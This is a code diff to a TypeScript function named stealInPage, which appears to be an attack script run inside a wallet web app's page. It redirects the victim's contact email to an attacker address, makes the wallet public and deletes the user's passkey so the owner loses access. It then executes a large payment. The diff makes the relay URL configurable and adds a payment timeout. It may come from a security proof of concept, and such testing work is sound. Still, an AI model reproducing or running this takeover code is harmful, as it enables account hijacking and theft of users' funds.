@@ -61,9 +61,15 @@ export async function stealInPage({
   customerId,
   idToken,
   quotes,
+  relayUrl = '/wallet',
+  patienceMs,
 }: Record<'profile' | 'thiefsEmail' | 'customerId' | 'idToken', string> & {
   /** Where the app makes quotes. Default: the relay does. */
   quotes: string | undefined
+  /** Default: the relay of the page's own origin. */
+  relayUrl?: string
+  /** How long the script waits for a payment that asks the user. Default: it does not end by itself. */
+  patienceMs?: number
 }): Promise<Attempts> {
   const attempts: Attempts = {}
   const headers = { 'Content-Type': 'application/json', 'Wallet-Call': '1', 'Wallet-Profile': profile }
@@ -81,9 +87,10 @@ export async function stealInPage({
   await attempt('contact', (wallet) => core.updateContact(wallet, { customerId, email: thiefsEmail }))
   await attempt('privacy', (wallet) => core.setWalletPrivacy(wallet, { isPrivate: false }))
   // The SDK itself keeps the last way in, so here the script calls the relay.
-  const [passkey] = await core.listAuthMethods(wallet)
-  await attempt('revoke', async () => {
-    const response = await fetch(`/wallet/auth/credentials/${passkey.id}`, { method: 'DELETE', headers })
+  await attempt('revoke', async (wallet) => {
+    const [passkey] = await core.listAuthMethods(wallet)
+    const url = `${relayUrl}/auth/credentials/${passkey.id}`
+    const response = await fetch(url, { method: 'DELETE', headers })
     if (!response.ok) throw await response.json()
   })
   await attempt('payment', async (wallet) => {
@@ -92,7 +99,8 @@ export async function stealInPage({
     const quote = quotes
       ? await (await fetch(quotes, { method: 'POST', headers, body })).json()
       : await core.requestQuote(wallet, { order: { amount: 1_000_000, umaAddress } })
-    await core.executeQuote(wallet, { quote })
+    const signal = patienceMs && AbortSignal.timeout(patienceMs)
+    await core.executeQuote(wallet, { quote, ...(signal && { signal }) })
   })
   return attempts
 }
